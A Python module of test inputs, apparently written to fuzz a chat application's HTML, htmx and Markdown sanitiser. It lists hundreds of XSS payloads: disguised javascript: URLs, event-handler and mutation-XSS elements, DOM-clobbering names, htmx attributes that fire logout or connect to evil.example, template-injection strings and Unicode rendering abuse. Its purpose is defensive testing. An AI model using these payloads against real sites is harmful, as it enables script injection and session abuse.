"""Hostile texts, by trick: what people have tried against other pages, and what could be tried here.

Tricks are facts, and the spellings here are our own. What is known is collected in OWASP's "XSS filter
evasion" sheet, in html5sec.org and in the tests of DOMPurify; what only htmx and Markdown would fall
for comes from reading them. A script that ran would call `alert`; what is asked for from elsewhere is
asked for from evil.example.
"""

from itertools import product

SCRIPT = "javascript:alert(1)"
DATA = "data:text/html,<script>alert(1)</script>"
EVIL = "https://evil.example"

# How a script's address has been hidden from filters. (OWASP)
SPELLINGS = [
    SCRIPT, "JAVASCRIPT:alert(1)", "jAvAsCrIpT:alert(1)", "java\tscript:alert(1)", "java&#9;script:alert(1)",
    "java&#x0A;script:alert(1)", "java&NewLine;script:alert(1)", "java&Tab;script:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert&lpar;1&rpar;", "javascript%3Aalert(1)",
    "%6Aavascript:alert(1)", "&#106;avascript:alert(1)", "&#0000106avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)", "\\javascript:alert(1)",
    "java\\script:alert(1)", "\x01javascript:alert(1)", "\x1fjavascript:alert(1)", "&#14; javascript:alert(1)",
    "&#x01;javascript:alert(1)", "\u00a0javascript:alert(1)", "\u3000javascript:alert(1)",
    "\ufeffjavascript:alert(1)", "\u200bjavascript:alert(1)", "java\u200bscript:alert(1)",
    "java\u00adscript:alert(1)", "ja\u2028vascript:alert(1)", "\u202ejavascript:alert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)", "javascript：alert(1)", "javaſcript:alert(1)", "ⓙavascript:alert(1)",
    "javascript://evil.example/%0aalert(1)", "javascript:/*https://evil.example/*/alert(1)",
    "javascript:alert`1`", "javascript:'https:'+alert(1)", "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)", "http:javascript:alert(1)", "https:javascript:alert(1)", "livescript:alert(1)",
    "mocha:alert(1)", "vbscript:msgbox(1)", "VbScRiPt:MsgBox(1)",
]  # fmt: skip

# Addresses that are no script, and yet lead to where nobody should be led. (OWASP, html5sec)
ADDRESSES = [
    DATA, "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:application/xhtml+xml,<x/>", "data&colon;text/html,x", "d\tata:text/html,x", "data:,x", "file:///etc/passwd",
    "blob:https://evil.example/1", "about:blank", "about:srcdoc", "chrome://settings", "filesystem:https://evil.example/x",
    "view-source:https://evil.example/", "intent://evil.example/#Intent;scheme=http;end", "ms-word:ofe|u|x", "tel:1",
    "sms:1", "ftp://evil.example/", "ws://evil.example/", "jar:https://evil.example/!/x", "wyciwyg://x", "x:y",
    "//evil.example/", "///evil.example/", "\\\\evil.example\\", "/\\evil.example/", "\\/evil.example/", "/accounts/logout/",
    "?before=1", "#composer", "..", ".", "https:evil.example", "https:/evil.example", "https:\\\\evil.example",
    "http://", "https://[::1", "https://evil.example:99999/", "https://user:password@evil.example/",
    "https://parley.example@evil.example/", "https://evil.example\\@parley.example/", "https://evil%00.example/",
    "https://evil.example/%0d%0aSet-Cookie:a=b", "https://еvil.example/", "https://evil。example/",
    "https://evil.example/\u202egnp.exe", "mailto:a@b.c?bcc=all@evil.example&body=<script>", "mailto:%0ascript:alert(1)",
]  # fmt: skip

# Where Markdown takes an address.
PLACES = [
    "[x]({})", "![x]({})", "[x](<{}>)", "[x]({} \"title\")", "<{}>", "[x][r]\n\n[r]: {}", "[r]\n\n[r]: <{}> 't'",
    "{}", "[{}](https://evil.example/)", "[x](https://evil.example/{})", "<a href=\"{}\">x</a>",
]  # fmt: skip

# Elements that run, load, embed, send or take over, as they are and broken on purpose. (all sources)
ELEMENTS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script src=data:,alert(1)></script>",
    "<script/x>alert(1)</script>", "<script\x0c>alert(1)</script>", "<script\n>alert(1)</script\n>", "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script><!--<script>alert(1)--></script>", "<script type=module>import '//evil.example/'</script>",
    "<script async src=//evil.example/x></script>", "<script type=importmap>{\"imports\":{}}</script>", "<script src=\"/static/x.js\" onload=alert(1)>",
    "\\<script>alert(1)\\</script>", "<\x00script>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)", "\\u003cscript\\u003ealert(1)", "\xbcscript\xbealert(1)\xbc/script\xbe",
    "<img src=x onerror=alert(1)>", "<img src=//evil.example/p.gif>", "<img src=x:x onerror&equals;alert(1)>", "<img/src/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">", "<img src=`x`onerror=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">", "<img src=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>", "<img srcset='//evil.example/a 1x, //evil.example/b 2x'>",
    "<picture><source srcset=//evil.example/a><img></picture>", "<image src=x onerror=alert(1)>", "<input type=image src=x onerror=alert(1)>",
    "<img src=x usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>", "<img longdesc=javascript:alert(1)>",
    "<img loading=lazy src=//evil.example/lazy>", "<img src=x attributionsrc=//evil.example/>", "<img src=1 alt='\"><script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=//evil.example/>", "<IFRAME SRC=# onmouseover=alert(1)>",
    "<iframe name=x onload=alert(1)>", "<iframe src=/accounts/logout/>", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)>", "<object data='data:text/html,<script>alert(1)</script>'>", "<object type=text/x-scriptlet data=//evil.example/>",
    "<embed src=javascript:alert(1)>", "<embed code=//evil.example/x.swf allowscriptaccess=always>", "<applet code=x>", "<portal src=//evil.example/>",
    "<fencedframe src=//evil.example/>", "<video src=x onerror=alert(1)>", "<video poster=javascript:alert(1)//>", "<video><source onerror=alert(1)>",
    "<audio src=//evil.example/a autoplay>", "<track src=//evil.example/t.vtt default>", "<bgsound src=javascript:alert(1)>",
    "<body onload=alert(1)>", "<body background=javascript:alert(1)>", "<BODY ONLOAD!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>", "<html onclick=alert(1)>",
    "<head><base href=//evil.example/></head>", "<base target=_blank>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/>",
    "<link rel=preload as=script href=//evil.example/>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=manifest href=//evil.example/>",
    "<link rel=import href=data:text/html,x>", "<link rel=icon href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>", "<meta http-equiv=Set-Cookie content=a=b>", "<meta charset=utf-7>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">", "<meta name=referrer content=unsafe-url>", "<meta name=viewport content=width=9>",
    "<meta name=htmx-config content='{\"prefix\":\"data-hx-\",\"selfRequestsOnly\":false}'>", "<meta name=color-scheme content=dark>", "<title>taken over</title>",
    "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css'</style>", "<style>body{background:url(//evil.example/)}</style>",
    "<style>li{list-style-image:url(javascript:alert(1))}</style><ul><li>x</ul>", "<style>@import'javascript:alert(1)';</style>", "<style><!--</style><script>alert(1)//--></script>",
    "<p style='position:fixed;inset:0;background:red'>x</p>", "<p style=background:url(//evil.example/)>x</p>", "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//evil.example/)'>x</p>", "<p style=\"behavior:url(x.htc)\">x</p>", "<p style=color:\\72 ed;font-size:9999px>x</p>",
    "<form action=//evil.example/><button>Send</button></form>", "<form id=composer><input name=body></form>", "<button form=act formaction=/accounts/logout/>x</button>",
    "<button formaction=javascript:alert(1)>x</button>", "<input form=composer name=body value=x>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<input type=submit form=act formmethod=post value=x>", "<isindex action=javascript:alert(1) type=image>",
    "<input name=csrfmiddlewaretoken value=x>", "<output form=act>x</output>", "<fieldset form=act disabled>", "<label for=text>x</label>", "<datalist id=text><option value=x></datalist>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>", "<details class=spoiler open>x</details>", "<dialog open>x</dialog>", "<div popover id=p>x</div><button popovertarget=p>x</button>",
    "<button command=show-modal commandfor=p>x</button>", "<marquee onstart=alert(1)>x</marquee>", "<blink>x</blink>", "<div contenteditable onblur=alert(1)>x</div>", "<div tabindex=1 onfocus=alert(1)>x</div>",
    "<div accesskey=x onclick=alert(1)>x</div>", "<p draggable=true ondragstart=alert(1)>x</p>", "<p onpointerrawupdate=alert(1)>x</p>", "<x onanimationstart=alert(1) class=pulse>x</x>",
    "<x oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>", "<p onbeforematch=alert(1) hidden=until-found>x</p>", "<x onbeforeinput=alert(1) contenteditable>x",
    "<a href=javascript:alert(1)>x</a>", "<a href=https://evil.example/ target=_blank>x</a>", "<a href=https://evil.example/ ping=//evil.example/p>x</a>", "<a href=x download>x</a>",
    "<a onclick=alert(1)>x</a>", "<a href=# onmouseover='alert(1)'>x</a>", "<a href=https://evil.example/ rel=opener>x</a>", "<a name=composer href=#x>x</a>", "<area href=javascript:alert(1)>",
    "<xss onclick=alert(1)>x</xss>", "<x:x onclick=alert(1)>x", "<?xml-stylesheet href=javascript:alert(1)?>", "<?php echo 1 ?>", "<!DOCTYPE html>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<listing>&lt;script>alert(1)", "<noembed><script>alert(1)</script></noembed>", "<center><font size=99>x</font></center>",
    "<ruby>x<rt>y</ruby>", "<wbr><bdo dir=rtl>x</bdo>", "<bdi dir=rtl>x", "<slot name=x>", "<nextid n=x>", "<layer src=//evil.example/>", "<ilayer>", "<xml id=x><i>x</i></xml>",
    "<span datasrc=#x datafld=y dataformatas=html>x</span>", "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>", "<col span=9999>", "<td colspan=9999>x",
    "<p lang=x title=y dir=rtl translate=no>x</p>", "<p class='bar message house'>x</p>", "<p hidden>x</p>", "<p inert>x</p>", "<p aria-hidden=true role=alert>x</p>", "<p is=x-y part=z>x</p>",
    "<p nonce=x>x</p>", "<p xmlns='http://www.w3.org/1999/xhtml' xml:base=javascript:alert(1)>x</p>", "<p itemscope itemtype=//evil.example/>x</p>", "<p a=1 a=2 style style=x>x</p>",
]  # fmt: skip

# Elements that end early, swallow what follows, or are read in another way the second time. (DOMPurify)
MUTATIONS = [
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><script>&#97;lert(1)</script>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>", "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><image href=//evil.example/x>", "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg><title><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>", "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>", "<svg><desc><table><style><!--</style><a id='--><img src=x onerror=alert(1)>'>",
    "<svg><feImage><set attributeName=href to=//evil.example/></feImage></svg>", "<svg><handler ev:event=load>alert(1)</handler></svg>", "<svg><discard onbegin=alert(1)>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    "<math><mi//xlink:href=javascript:alert(1)>x", "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src=x onerror=alert(1)>'></style></h1>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math><mi><table><mglyph><style><math><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><style><!--</style><b title='--><img src=x onerror=alert(1)>'>", "<math><mtext></mtext><mglyph><svg><mtext><textarea><a title='</textarea><img src=x onerror=alert(1)>'>",
    "<style><a title='</style><img src=x onerror=alert(1)>'>", "<title><a title='</title><img src=x onerror=alert(1)>'>", "<textarea><a title='</textarea><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>", "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<plaintext><p title='</plaintext><img src=x onerror=alert(1)>'>",
    "<template><p title='</template><img src=x onerror=alert(1)>'>", "<template shadowrootmode=open><script>alert(1)</script></template>", "<template><template><script>alert(1)",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>", "<select><style><img src=x onerror=alert(1)></style></select>", "<option><style></option></select><img src=x onerror=alert(1)>",
    "<table><tr><td></table><img src=x onerror=alert(1)><table>", "<table><caption><svg><title><style></table><img src=x onerror=alert(1)>", "<colgroup><script>alert(1)", "</td></tr></table><script>alert(1)</script>",
    "</p></div></article></li></ol></section></main></body></html><script>alert(1)</script>", "</div></div></div></div><h1 id=room-name>x</h1>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</bdi></a></h3></article></li>", "'\"><script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "*/alert(1)/*", "';alert(1)//", "\";alert(1);//", "`-alert(1)-`",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "{{ 7|add:7 }}", "{% csrf_token %}", "{% include 'base.html' %}", "<%= 7*7 %>", "{{ request.user.password }}", "%s %d %(x)s {0} {x.__class__}",
    "<!--", "<!-->", "<!--->", "<!-- --!><script>alert(1)</script>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<!-- comment",
    "<a <b <c", "<a href=\"", "<a href='x", "<img src=x onerror=\"alert(1)", "<x a=\"'>\" b='\">'>", "</", "<", "</ x>", "<!x>", "<?x", "<a/b/c/d>", "<a\u00a0href=javascript:alert(1)>x", "<div" + "<div" * 50, "<b>" * 100,
    "<math><math><math>" * 20, "&", "&#", "&#x", "&#x110000;", "&#xD800;", "&#0;", "&#128;", "&nosuch;", "&lt", "&notin", "&ampamp;", "&#60script&#62alert(1)", "&#x3c;script&#x3e;", "&bne;", "&NewLine;&Tab;",
]  # fmt: skip

# Names and ids by which a form or a script finds what it did not mean. (DOMPurify)
CLOBBERING = [
    f"<{tag} {name}={value}>x</{tag}>"
    for tag, name in (("a", "id"), ("form", "name"), ("img", "id"), ("input", "name"))
    for value in (
        "act", "composer", "text", "send", "messages", "cursor", "notice", "sidebar", "connection", "room",
        "htmx", "document", "body", "cookie", "location", "parentNode", "attributes", "getElementById",
        "__proto__", "constructor", "nodeName", "action", "submit", "csrfmiddlewaretoken", "message-1",
    )
]  # fmt: skip

# What htmx would do by an attribute or an element, and what it would take a frame for.
HTMX = [
    f"<p {prefix}{attribute}>x</p>"
    for prefix in ("hx-", "data-hx-", "HX-")
    for attribute in (
        "get=/accounts/logout/ hx-trigger=load", "post=/accounts/logout/ hx-trigger=revealed", "delete=/rooms/ hx-trigger='every 1s'",
        "trigger=\"load[alert(1)]\"", "on:click=alert(1)", "on::load=alert(1)", "on-click='alert(1)'", "vals='js:{a:alert(1)}'",
        "headers='javascript:alert(1)'", "swap-oob=true id=composer", "swap-oob='innerHTML:#messages'", "swap-oob=delete:body",
        "select-oob='#room:innerHTML'", "target=body hx-swap=outerHTML hx-get=/rooms/", "boost=true", "push-url=https://evil.example/",
        "ext=ws", "include='[name=csrfmiddlewaretoken]'", "confirm=x", "prompt=x", "disable", "ignore", "preserve", "sync='#text:abort'",
        "ws:connect=wss://evil.example/", "ws:send hx-trigger=load hx-vals='{\"body\":\"x\"}'", "config='{\"selfRequestsOnly\":false}'",
        "inherit='*'", "status:200=swap:outerHTML", "morph-skip", "action=/accounts/logout/ hx-method=post hx-trigger=load", "indicator=body",
    )
] + [
    "<hx-partial hx-target=body hx-swap=innerHTML>x</hx-partial>", "<hx-partial id=composer>x</hx-partial>", "<HX-PARTIAL hx-target='#messages' hx-swap=delete></HX-PARTIAL>",
    "<hx-upsert hx-target='#messages' key=data-seq sort><li data-seq=1>x</li></hx-upsert>", "<template hx hx-target=body>x</template>", "<template hx-type=partial hx-target=body>x</template>",
    "<template hx partial hx-target='#room'><script>alert(1)</script></template>", "</hx-partial><hx-partial hx-target=body hx-swap=delete>", "</hx-upsert><script>alert(1)</script>",
    "</template><hx-partial hx-target=body hx-swap=innerHTML>x</hx-partial>", "<li id=message-1 data-seq=1 data-author=1>x</li>", "<li data-seq=99999999 id=message-99999999>x</li>", "<div data-unread-of=1>99</div>",
    "<bdi data-name-of=1>alice</bdi>", "<title>(99) taken over</title>", '{"html": "<script>alert(1)</script>"}', '{"body": "x", "headers": {"HX-Redirect": "//evil.example/"}}', '["x"]', "[]", "{}", '"x"', "null",
    '{"channel": "ui", "target": "body", "payload": "<p>x</p>", "swap": "innerHTML"}', "HX-Redirect: //evil.example/", "event: message\ndata: x", "[hx-get='/rooms/']", "#composer", "body", "hx-on::load",
]  # fmt: skip

# What Markdown makes HTML of, with hostile words where it puts them.
MARKDOWN = [
    *(f"```{info}\nx\n```" for info in ("<script>", 'html"onclick="alert(1)', "js onload=alert(1)", "\"><img src=x onerror=alert(1)>", "{.bar #composer hx-get=/}",
                                          "../../etc/passwd", "python'\"`", "&quot;&gt;", "\u202e", "x" * 300, ":tea:", "php <?", "html+django", "constructor", "__proto__")),
    *(f"```{language}\n<script>alert(1)</script><img src=x onerror='alert(1)' hx-get=/>\n```" for language in ("html", "xml", "js", "php", "vue", "jsx", "django", "diff", "md", "console", "http", "")),
    "~~~ <b>\n</code></pre><script>alert(1)</script>\n~~~", "`</code><script>alert(1)</script>`", "``<img src=x onerror=alert(1)>``", "    <script>alert(1)</script>", "```\n</pre></div>",
    *(f"::: {info}\n<b>x</b>\n:::" for info in ("spoiler <script>alert(1)</script>", "spoiler </summary></details><script>alert(1)</script>", 'spoiler" open ontoggle="alert(1)', "spoiler {open}", "spoiler &lt;b&gt;",
                                              "spoiler [x](javascript:alert(1))", "spoiler :tea: \u202e", "SPOILER <hx-partial hx-target=body>", "spoiler\topen", "note <b>")),
    "::: spoiler\n::: spoiler\n::: spoiler\n</details>", "> ::: spoiler\n> <script>", "- ::: spoiler\n  ```html\n  <script>alert(1)</script>",
    "[a](https://evil.example/\"onmouseover=\"alert(1))", "[a](https://evil.example/'onmouseover='alert(1))", "[a](<https://evil.example/\" onclick=\"alert(1)>)", "[a](https://evil.example/ \"\\\" onclick=\\\"alert(1)\")",
    "[a](https://evil.example/ '\"><script>alert(1)</script>')", "[<img src=x onerror=alert(1)>](https://evil.example/)", "[![x](javascript:alert(1))](javascript:alert(1))", "[x](https://evil.example/){onclick=alert(1)}",
    "[x](https://evil.example/){:target=_blank}", "[x][<script>]\n\n[<script>]: javascript:alert(1)", "[x]: data:text/html,x\n\n[x] [x][] [y][x]", "[x](javascript:alert(1)\n)", "[x](java\nscript:alert(1))", "[x]( javascript:alert(1))",
    "[x](<java\\\nscript:alert(1)>)", "[x](\\javascript:alert(1))", "[x](j&#97;v&#97;script&#x3A;alert&#40;1&#41;)", "[x](javascript&#x3a;alert&#x28;1&#x29;)", "[__proto__]\n\n[__proto__]: javascript:alert(1)",
    "[x](https://evil.example/)[y](javascript:alert(1))", "**[x](javascript:alert(1))**", "*[x](*javascript:alert(1))", "[x](javascript:alert(1)) https://evil.example/", "![x][y]\n\n[y]: //evil.example/p.gif", "![](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<https://evil.example/\"onclick=\"alert(1)>", "<https://evil.example/<script>alert(1)</script>>", "<mailto:x@evil.example?subject=<script>>", "<x@evil.example\"onclick=alert(1)>", "<a@b.c'onmouseover=alert(1)//>",
    "https://evil.example/<script>alert(1)</script>", "https://evil.example/\"><script>alert(1)</script>", "https://evil.example/'onclick='alert(1)", "https://evil.example/`onclick=`alert(1)", "https://evil.example/&quot;onclick=&quot;alert(1)",
    "https://evil.example/#<img src=x onerror=alert(1)>", "https://evil.example/?a=b&amp;lt;script&amp;gt;", "https://evil.example/[x](javascript:alert(1))", "https://evil.example/**x**_y_~~z~~`w`", "www.evil.example\"onclick=alert(1)",
    "evil.com/\"onmouseover=\"alert(1)", "\"alert(1)\"@evil.example.com", "x@evil.example.com'onclick='alert(1)", "//evil.example.com/x", "http://evil.example\u2028/onclick", "https://evil.example:80\\@x/", "http://a.b/\x7f",
    "| <b>a</b> | b |\n|---|---|\n| [x](javascript:alert(1)) | <script>alert(1)</script> |", "Term\n: <b>x</b>", "[^1]\n\n[^1]: <script>alert(1)</script>", "- [x] <input autofocus onfocus=alert(1)>", "# <h1 id=room-name>x</h1>", "x {#composer .bar}",
    "***bold** and*", "**a *b **c* d** e*", "*" * 200 + "x" + "*" * 200, "_" * 99 + "x", "~~" * 99 + "x", "[" * 99 + "](javascript:alert(1))" * 9, "> " * 60 + "<script>", "- " * 60 + "<script>", "`" * 99 + "<script>alert(1)</script>",
    "\\<img src=x onerror=alert(1)\\>", "\\&lt;script>", "<details><summary>x</summary>\n\n```\n</details>\n```", "x  \n<br onclick=alert(1)>", "1. <li value=9 onclick=alert(1)>x</li>", "99999999999. x", "0. x", "-1. x",
    ":tea:<script>alert(1)</script>", ":<script>:", ":tea onclick=alert(1):", ":__proto__:", ":constructor:", "::::::::", ":tea::tea::tea:\n\n:+1:\"onclick=", ":a:\u202e:b:", ":" + "a" * 500 + ":", ":flag_<b>:",
]  # fmt: skip

# Nothing is hidden in these but words: what turns, covers, stretches or vanishes.
SHAPES = {
    "a pile of marks": "Z" + "\u0301\u0316\u0489" * 1333,
    "piles of marks": ("Z" + "\u0300\u0315\u031b\u0348\u035c\u0489\u20dd" * 6) * 90,
    "thai vowels in a pile": "\u0e01" + "\u0e47\u0e49" * 1900,
    "marks on nothing": "\u0301" * 3999 + "x",
    "turned and never turned back": "\u202egnihtyna " * 99,
    "isolated and never let go": "\u2067\u2066\u2068 \u202d\u202ax " * 200,
    "let go more often than isolated": "\u2069\u202c" * 500 + "x",
    "turned within emphasis and a link": "**\u202ebold** [\u2067link](https://evil.example/) `\u202ecode`",
    "an unclosed turn in a spoiler": "::: spoiler \u202etitle\n\u2067words\n:::",
    "blanks of no width": "a" + "\u200b\u200c\u200d\u2060\ufeff" * 700 + "b",
    "the widest character": "\ufdfd" * 400,
    "wide and tall cuneiform": "\U0001242b\u2e3b\u0bf5\ua9c5\U000122b3" * 200,
    "tall scripts": "ཧྐྵྨླྺྼྻྂ " * 60 + "ဪ꧅ " * 60 + "\u0601\u06dd\u0b95\u0bcd\u0bb7 " * 60 + "نستعلیق " * 30,
    "emoji alone": "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f" * 6,
    "people of many joiners": "👩🏻\u200d❤️\u200d💋\u200d👩🏻" * 6,
    "an emoji of a thousand parts": "👩" + "\u200d👩" * 1900,
    "flags and keycaps": "🇦" * 999 + "1\ufe0f\u20e3" * 300,
    "one long word": "W" * 4000,
    "one long word of marks": "Ǻ̌̈́͗" * 900,
    "one long address": "https://evil.example/" + "a" * 3900,
    "one long line of code": "```\n" + "x" * 3900 + "\n```",
    "one long word in a code span": "`" + "x" * 3900 + "`",
    "a long title of a spoiler": "::: spoiler " + "W" * 3000 + "\nx\n:::",
    "a deep list": "".join("  " * depth + "- x\n" for depth in range(40)),
    "a number with many digits": "999999999. x",
    "line and paragraph separators": "a\u2028b\u2029c\x85d\x0be\x0cf" * 300,
    "tabs": "```\n" + "\t" * 2000 + "x\n```",
    "upside down with controls": "\x1b[2J\x1b[31m\x07\x08\x08\x7f\x9b31m" * 99 + "x",
    "marks of old formats": "\ufff9a\ufffab\ufffb\U0001d173\u206a\u206f\U000e0001" * 200,
    "blank letters": "\u3164\u115f\u1160\uffa0\u2800" * 300 + "x",
}  # fmt: skip

TRICKS: dict[str, list[str]] = {
    "a script's address": [place.format(address) for place, address in product(PLACES, SPELLINGS)],
    "an address": [place.format(address) for place, address in product(PLACES, ADDRESSES)],
    "an element": ELEMENTS,
    "a mutation": MUTATIONS,
    "a name": CLOBBERING,
    "htmx": HTMX,
    "markdown": MARKDOWN,
    "a shape": list(SHAPES.values()),
}
ALL = [text for texts in TRICKS.values() for text in texts]
# One of each of the many that are products, and all of the others: enough where each costs a request.
FEW = [
    *(PLACES[number % len(PLACES)].format(text) for number, text in enumerate(SPELLINGS + ADDRESSES)),
    *ELEMENTS, *MUTATIONS, *CLOBBERING[::5], *HTMX, *MARKDOWN,
]  # fmt: skip
